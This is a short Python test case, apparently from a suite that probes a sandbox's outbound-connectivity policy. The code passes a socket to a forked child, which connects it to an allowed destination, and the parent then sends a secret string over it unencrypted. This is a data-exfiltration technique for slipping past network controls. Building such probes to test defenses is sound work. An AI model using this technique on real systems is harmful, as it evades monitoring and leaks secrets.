# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a socket is passed to another process, which connects it: the sender sends bytes that are
#   not TLS
# proof: word
# needs: resolver python>=3.9
import os
import socket

from attack import SECRET, at_allowed, attempt


def say(place):
    near, far = socket.socketpair()
    if os.fork() == 0:
        try:
            near.close()
            socket.socket(fileno=socket.recv_fds(far, 1, 1)[1][0]).connect(place)
        finally:
            os._exit(0)
    out = socket.socket()
    socket.send_fds(near, [b"."], [out.fileno()])
    os.wait()
    out.send(SECRET.encode())
    return out


@attempt
def send():
    return at_allowed(say, first=False)
